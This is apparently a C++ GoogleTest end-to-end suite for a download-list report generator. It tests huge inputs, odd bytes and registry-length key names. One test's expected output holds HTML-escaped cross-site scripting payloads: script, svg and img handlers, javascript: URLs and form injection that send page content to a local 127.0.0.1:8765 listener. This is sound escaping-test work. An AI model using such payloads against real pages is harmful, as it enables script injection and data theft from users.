// Hostile input, end to end: inputs far larger than any real list, odd bytes
// in values, values aimed at the report page, and key names of the
// registry's full length, for both builds.
#include <filesystem>
#include <sstream>
#include <string>
#include <vector>

#include "gtest/gtest.h"
#include "harness.h"
#include "hostile.h"

namespace tallyweb::e2e {
namespace {

namespace fs = std::filesystem;

// --- Inputs far past any real list -----------------------------------------

struct BigCase {
  std::string name;
  std::vector<DownloadKey> list;
  std::string template_bytes;
  std::string want;         // under Wine, in the ANSI code page
  std::string want_native;  // natively, in UTF-8; empty: the same as want
};

std::string Repeat(const std::string& line, int count) {
  std::string text;
  text.reserve(line.size() * count);
  for (int i = 0; i < count; ++i) text += line;
  return text;
}

BigCase HugeTemplate() {
  // 100 MB: 50 000 LF-ended head lines and 50 000 CR-ended tail lines of
  // 1000 bytes around a one-line block; every line end becomes CR LF.
  const std::string head_line(999, 'h'), tail_line(999, 't');
  return {"100 MB template",
          {{"X", {Dword("Item_Size", 7)}}},
          Repeat(head_line + "\n", 50000) + "{\n&Name &Size\n}\n" + Repeat(tail_line + "\r", 50000),
          Repeat(head_line + "\r\n", 50000) + "X 7\r\n" + Repeat(tail_line + "\r\n", 50000),
          ""};
}

BigCase LongTemplateLine() {
  const std::string a(49990, 'a'), b(49990, 'b');
  return {"100 000-byte template line",
          {{"X", {Text("Item_MainURL", "http://h/x"), Dword("Item_Size", 0xFFFFFFFE)}}},
          "{\r\n&Name" + a + "&URL" + b + "&Size\r\n}\r\n",
          "X" + a + "http://h/x" + b + "-2\r\n",
          ""};
}

BigCase MegabyteUrl() {
  // Inserted once: the "&Size" inside it is not a placeholder, only escaped.
  const std::string url = "http://h/?" + std::string(1 << 20, 'u') + "&Size=2";
  const std::string escaped = "http://h/?" + std::string(1 << 20, 'u') + "&amp;Size=2";
  return {"1 MB URL",
          {{"X", {Text("Item_MainURL", url), Dword("Item_Size", 1)}}},
          "{\r\n&URL|&Size|&URL\r\n}\r\n",
          escaped + "|1|" + escaped + "\r\n",
          ""};
}

// Numbered names of `length` characters, so that Wine's sorted enumeration
// gives them in the order they were made.
BigCase ManyLongKeyNames(int count, int length) {
  BigCase c{
      std::to_string(count) + " downloads with " + std::to_string(length) + "-character key names",
      {},
      "{\r\n&Name &Size\r\n}\r\n",
      "",
      ""};
  for (int i = 0; i < count; ++i) {
    char number[16];
    std::snprintf(number, sizeof number, "%05d", i);
    const std::string name = number + std::string(length - 5, 'k');
    c.list.push_back({name, {Dword("Item_Size", static_cast<std::uint32_t>(i))}});
    c.want += name + " " + std::to_string(i) + "\r\n";
  }
  return c;
}

// The test prefix's ANSI code page is 1252: the bytes 0x80-0x9F are these
// characters (five of them unassigned, which Wine keeps as the C1 controls).
const char16_t kCp1252High[32] = {0x20AC, 0x0081, 0x201A, 0x0192, 0x201E, 0x2026, 0x2020, 0x2021,
                                  0x02C6, 0x2030, 0x0160, 0x2039, 0x0152, 0x008D, 0x017D, 0x008F,
                                  0x0090, 0x2018, 0x2019, 0x201C, 0x201D, 0x2022, 0x2013, 0x2014,
                                  0x02DC, 0x2122, 0x0161, 0x203A, 0x0153, 0x009D, 0x017E, 0x0178};

std::string Cp1252ToUtf8(const std::string& bytes) {
  std::string out;
  for (unsigned char b : bytes) {
    const unsigned code = b >= 0x80 && b < 0xA0 ? kCp1252High[b - 0x80] : b;
    if (code < 0x80) {
      out += static_cast<char>(code);
    } else if (code < 0x800) {
      out += static_cast<char>(0xC0 | code >> 6);
      out += static_cast<char>(0x80 | (code & 0x3F));
    } else {
      out += static_cast<char>(0xE0 | code >> 12);
      out += static_cast<char>(0x80 | ((code >> 6) & 0x3F));
      out += static_cast<char>(0x80 | (code & 0x3F));
    }
  }
  return out;
}

// The bytes 0x80-0xFF as the report holds them in code page 1252: the five
// C1 controls, for which no reference stands, as the replacement character.
std::string Cp1252HighInReport(const std::string& bytes) {
  std::string out;
  for (unsigned char b : bytes) {
    const bool c1 = b >= 0x80 && b < 0xA0 && kCp1252High[b - 0x80] < 0xA0;
    out += c1 ? std::string("&#65533;") : std::string(1, static_cast<char>(b));
  }
  return out;
}

BigCase HighBytesAndNuls() {
  std::string high;
  for (int b = 0x80; b <= 0xFF; ++b) high += static_cast<char>(b);
  // The C1 controls come out as U+FFFD; the soft hyphen, 0xAD, shows as
  // nothing, so it comes out as a visible token: in code page 1252 its angle
  // brackets as references.
  std::string windows = Cp1252HighInReport(high), native = Cp1252ToUtf8(windows);
  windows.replace(windows.find('\xAD'), 1, "&#10216;U+00AD&#10217;");
  native.replace(native.find("\xC2\xAD"), 2, "\xE2\x9F\xA8U+00AD\xE2\x9F\xA9");
  // Strings end at their first NUL, whatever follows it.
  return {
      "bytes 0x80-0xFF and NUL in values",
      {{"X",
        {Hex("Item_MainURL", 1, high + std::string("\0after\0", 7)),
         Hex("Item_Description", 2, std::string("d\x01\x7f\0x\0", 6)),
         Hex("Item_OutputFilename", 1, std::string("\0C:\\hidden\\", 11)), Dword("Item_Size", 3)}}},
      "{\r\n[&URL][&Discr][&Out][&DOut]\r\n}\r\n",
      "[" + windows + "][d\x01\x7f][][file://]\r\n",
      "[" + native + "][d\x01\x7f][][file://]\r\n"};
}

void ExpectWholeRun(const BigCase& c, Build build) {
  SCOPED_TRACE(BuildName(build));
  ProgramFolder folder(build);
  folder.WriteTemplate(c.template_bytes);

  const RunOutcome run = folder.Run();

  EXPECT_EQ(0, run.exit_code) << run.stderr_text.substr(0, 2000);
  EXPECT_FALSE(run.timed_out);
  EXPECT_TRUE(run.boxes.empty());
  const std::string& want = build == Build::kNative && !c.want_native.empty() ? c.want_native
                                                                              : c.want;
  EXPECT_TRUE(SameBytes(want, run.report));
  EXPECT_TRUE(run.shell.asked);
}

TEST(Hostile, InputsFarPastAnyRealListComeOutWhole) {
  SetHtmHandler(true);
  // Ten thousand names of 225 characters, each item path within the 260
  // characters of the ANSI open; the registry's full 255 come below.
  const BigCase cases[] = {HugeTemplate(), LongTemplateLine(), MegabyteUrl(),
                           ManyLongKeyNames(10000, 225), HighBytesAndNuls()};
  for (const BigCase& c : cases) {
    SCOPED_TRACE(c.name);
    PlantDownloadList(c.list);
    for (Build build : {Build::kWindows, Build::kNative}) ExpectWholeRun(c, build);
  }
}

// The list of downloads whose values attack the report page, which the
// browser test opens too: each value, whatever it holds, comes out as text,
// the five bytes HTML gives a meaning escaped, so nothing in it can become
// markup; the folder links escape "%" and "#" first.
std::vector<DownloadKey> ReadDownloadList(const std::string& reg_path) {
  const std::string key_prefix = "[HKEY_LOCAL_MACHINE\\Software\\Tesmora\\Orvalink\\FileList\\";
  std::vector<DownloadKey> keys;
  std::istringstream in(ReadWhole(reg_path));
  for (std::string line; std::getline(in, line);) {
    if (!line.empty() && line.back() == '\r') line.pop_back();
    if (line.rfind(key_prefix, 0) == 0 && line.back() == ']') {
      keys.push_back({line.substr(key_prefix.size(), line.size() - key_prefix.size() - 1), {}});
    } else if (!keys.empty() && line.rfind("\"", 0) == 0) {
      keys.back().values.push_back(line);
    }
  }
  return keys;
}

// The report of the hostile download list under the template
// "{&Name|&URL|&Out|&DOut|&Size|&Discr}": every value comes out as text.
const char kHostileListReport[] =
    R"(01 script|https://example.org/a.zip|C:\Downloads\a.zip|file://C:\Downloads\|1024|)"
    R"(&lt;script&gt;addEventListener(&#39;load&#39;,function(){fetch(&#39;http://127.0.0.1:8765/)"
    R"(exfil&#39;,{method:&#39;POST&#39;,mode:&#39;no-cors&#39;,body:document.documentElement.)"
    R"(outerHTML})})&lt;/script&gt;)"
    "\r\n"
    R"(02 &lt;svg onload=fetch(&#39;http://127.0.0.1:8765/svg&#39;)&gt;|https://example.org/b.zip|)"
    R"(C:\Downloads\b.zip|file://C:\Downloads\|1|&lt;img src=http://127.0.0.1:8765/img )"
    R"(onerror=fetch(&#39;http://127.0.0.1:8765/onerror&#39;)&gt;)"
    "\r\n"
    R"(03 quotes|https://example.org/&quot; autofocus onfocus=&quot;fetch(&#39;)"
    R"(http://127.0.0.1:8765/focus&#39;)|)"
    R"(C:\&quot;&gt;&lt;script src=http://127.0.0.1:8765/dir.js&gt;&lt;/script&gt;\&quot;&gt;)"
    R"(&lt;script src=http://127.0.0.1:8765/out.js&gt;&lt;/script&gt;.zip|)"
    // The folder ends at the last backslash or colon, here the port's.
    R"(file://C:\&quot;&gt;&lt;script src=http://127.0.0.1:8765/dir.js&gt;&lt;/script&gt;\)"
    R"(&quot;&gt;&lt;script src=http://127.0.0.1:|-1|)"
    R"(&lt;meta http-equiv=&quot;refresh&quot; content=&quot;0;url=http://127.0.0.1:8765/)"
    R"(refresh&quot;&gt;)"
    "\r\n"
    R"(04 comment|https://example.org/?a=1&amp;b=2&amp;lt;&amp;#39;|C:\Downloads\notes.txt|)"
    R"(file://C:\Downloads\|2|Release notes &lt;!--)"
    "\r\n"
    R"(05 javascript|javascript:fetch(&#39;http://127.0.0.1:8765/javascript&#39;)|)"
    R"(C:\Music\Mix #3\track.mp3|file://C:\Music\Mix %233\|3|)"
    R"(&lt;base href=&quot;http://127.0.0.1:8765/&quot;&gt;&lt;link rel=stylesheet )"
    R"(href=&quot;http://127.0.0.1:8765/css&quot;&gt;&lt;style&gt;@import )"
    R"(&#39;http://127.0.0.1:8765/import&#39;;&lt;/style&gt;)"
    "\r\n"
    R"(06 data|data:text/html,&lt;script&gt;fetch(&#39;http://127.0.0.1:8765/data&#39;))"
    R"(&lt;/script&gt;|D:\Backup\100%\it&#39;s &amp; more.zip|file://D:\Backup\100%25\|4|)"
    R"(&lt;/td&gt;&lt;/tr&gt;&lt;/tbody&gt;&lt;/table&gt;&lt;form )"
    R"(action=http://127.0.0.1:8765/form&gt;&lt;button autofocus&gt;Send&lt;/button&gt;)"
    R"(&lt;/form&gt;)"
    "\r\n"
    R"(07 spaced scheme| JavaScript:fetch(&#39;http://127.0.0.1:8765/spaced&#39;)|)"
    R"(E:\%23\x.bin|file://E:\%2523\|5|last row)"
    "\r\n";

TEST(Hostile, ValuesAimedAtThePageComeOutAsText) {
  SetHtmHandler(true);
  const BigCase c = {"hostile list", ReadDownloadList(TALLYWEB_HOSTILE_LIST),
                     "{\r\n&Name|&URL|&Out|&DOut|&Size|&Discr\r\n}\r\n", kHostileListReport, ""};
  ASSERT_EQ(7u, c.list.size());
  PlantDownloadList(c.list);
  ExpectWholeRun(c, Build::kWindows);
  // Natively a folder on a drive the prefix maps (C:) is linked as the Linux
  // folder, percent-encoded; D: and E: are not mapped and keep their form.
  BigCase native = c;
  const std::string drive_c = "file://" +
                              fs::canonical(std::string(TALLYWEB_E2E_PREFIX) + "/drive_c").string();
  const std::pair<std::string, std::string> links[] = {
      {R"(file://C:\Downloads\)", drive_c + "/Downloads/"},
      {R"(file://C:\&quot;&gt;&lt;script src=http://127.0.0.1:8765/dir.js&gt;&lt;/script&gt;\)"
       R"(&quot;&gt;&lt;script src=http://127.0.0.1:)",
       drive_c + "/%22%3E%3Cscript%20src%3Dhttp%3A//127.0.0.1%3A8765/dir.js%3E%3C/script%3E/"
                 "%22%3E%3Cscript%20src%3Dhttp%3A//127.0.0.1%3A/"},
      {R"(file://C:\Music\Mix %233\)", drive_c + "/Music/Mix%20%233/"},
  };
  native.want = c.want;
  for (const auto& link : links) {
    for (std::size_t at = native.want.find(link.first); at != std::string::npos;
         at = native.want.find(link.first, at + link.second.size())) {
      native.want.replace(at, link.first.size(), link.second);
    }
  }
  ExpectWholeRun(native, Build::kNative);
}

// Key names of 255 characters, the registry's own limit. With the list key's
// path before them, the items' absolute paths pass the 260 characters that
// RegOpenKeyExA takes; the Windows store opens those through the wide call.
TEST(Hostile, KeyNamesOfTheRegistrysFullLengthNatively) {
  SetHtmHandler(true);
  const BigCase c = ManyLongKeyNames(10000, 255);
  PlantDownloadList(c.list);
  ExpectWholeRun(c, Build::kNative);
}

TEST(Hostile, KeyNamesOfTheRegistrysFullLengthUnderWine) {
  SetHtmHandler(true);
  const BigCase c = ManyLongKeyNames(3, 255);
  PlantDownloadList(c.list);
  ExpectWholeRun(c, Build::kWindows);
}

}  // namespace
}  // namespace tallyweb::e2e
